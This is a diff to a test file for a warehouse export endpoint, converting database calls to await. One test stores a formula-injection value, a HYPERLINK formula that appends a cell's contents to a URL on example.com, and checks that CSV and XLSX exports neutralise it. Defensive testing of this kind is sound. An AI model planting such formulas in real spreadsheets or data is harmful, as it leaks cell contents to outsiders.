@@ -52,7 +52,7 @@ describe("GET /api/base/warehouses/export", () => {
     // A byte-order mark first, so Excel reads the file as UTF-8; then one header row.
     expect(response.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
     const rows = parse(response.body, { bom: true });
-    const ids = store().all<{ id: number; warehouse_name: string }>(
+    const ids = await store().all<{ id: number; warehouse_name: string }>(
       `SELECT id, warehouse_name FROM warehouses WHERE status = 'enabled' ORDER BY id DESC`,
     );
     expect(ids.length).toBeGreaterThan(1);
@@ -72,7 +72,7 @@ describe("GET /api/base/warehouses/export", () => {
     const workbook = new ExcelJS.Workbook();
     await workbook.xlsx.load(response.rawPayload as never);
     const sheet = workbook.worksheets[0];
-    const total = store().get<{ n: number }>(`SELECT COUNT(*) AS n FROM warehouses`)!.n;
+    const total = (await store().get<{ n: number }>(`SELECT COUNT(*) AS n FROM warehouses`))!.n;
     expect(sheet.rowCount).toBe(total + 1);
     expect(sheet.getRow(1).values).toContain("状态");
     // The same cells as the CSV of the same list (numbers keep their type: xlsx-writer.test.ts).
@@ -84,32 +84,34 @@ describe("GET /api/base/warehouses/export", () => {
   });
 
   it("logs who exported which list with which filters, and how many rows", async () => {
-    const before = store().get<{ n: number }>(`SELECT COUNT(*) AS n FROM _list_exports`)!.n;
+    const before = (await store().get<{ n: number }>(`SELECT COUNT(*) AS n FROM _list_exports`))!.n;
     await exported(admin, { format: "csv", status: "disabled" });
-    const log = store().get<Record<string, unknown>>(`SELECT * FROM _list_exports ORDER BY id DESC LIMIT 1`)!;
-    const disabled = store().get<{ n: number }>(`SELECT COUNT(*) AS n FROM warehouses WHERE status = 'disabled'`)!.n;
-    expect(store().get<{ n: number }>(`SELECT COUNT(*) AS n FROM _list_exports`)!.n).toBe(before + 1);
+    const log = (await store().get<Record<string, unknown>>(`SELECT * FROM _list_exports ORDER BY id DESC LIMIT 1`))!;
+    const disabled = (await store().get<{ n: number }>(
+      `SELECT COUNT(*) AS n FROM warehouses WHERE status = 'disabled'`,
+    ))!.n;
+    expect((await store().get<{ n: number }>(`SELECT COUNT(*) AS n FROM _list_exports`))!.n).toBe(before + 1);
     expect(log).toMatchObject({ resource: "warehouses", format: "csv", rows: disabled, status: "done" });
     expect(JSON.parse(log.query as string)).toEqual({ status: "disabled" });
   });
 
   it("refuses a user who may read the list but holds no export button, and logs nothing", async () => {
-    const before = store().get<{ n: number }>(`SELECT COUNT(*) AS n FROM _list_exports`)!.n;
+    const before = (await store().get<{ n: number }>(`SELECT COUNT(*) AS n FROM _list_exports`))!.n;
     const body = envelope(await exported(editor, { format: "csv" }));
     expect(body.status_code).toBe(403);
     expect(body.message).toContain("store_export");
-    expect(store().get<{ n: number }>(`SELECT COUNT(*) AS n FROM _list_exports`)!.n).toBe(before);
+    expect((await store().get<{ n: number }>(`SELECT COUNT(*) AS n FROM _list_exports`))!.n).toBe(before);
   });
 
   it("writes a formula-looking cell as text in CSV and as a string cell in XLSX; a negative number stays as it is", async () => {
-    const [first, second] = store().all<{ id: number; warehouse_name: string }>(
+    const [first, second] = await store().all<{ id: number; warehouse_name: string }>(
       "SELECT id, warehouse_name FROM warehouses ORDER BY id LIMIT 2",
     );
     const formula = '=HYPERLINK("http://example.com/?x="&A1,"click")';
-    const rename = (id: number, name: string) =>
-      store().run("UPDATE warehouses SET warehouse_name = ? WHERE id = ?", [name, id]);
-    rename(first.id, formula);
-    rename(second.id, "-12.5");
+    const rename = async (id: number, name: string) =>
+      await store().run("UPDATE warehouses SET warehouse_name = ? WHERE id = ?", [name, id]);
+    await rename(first.id, formula);
+    await rename(second.id, "-12.5");
     try {
       const csv = parse((await exported(admin, { format: "csv", lang: "en", sort: "id" })).body, {
         bom: true,
@@ -123,8 +125,8 @@ describe("GET /api/base/warehouses/export", () => {
       expect(cell.type).toBe(ExcelJS.ValueType.String);
       expect(cell.value).toBe(formula);
     } finally {
-      rename(first.id, first.warehouse_name);
-      rename(second.id, second.warehouse_name);
+      await rename(first.id, first.warehouse_name);
+      await rename(second.id, second.warehouse_name);
     }
   });
 
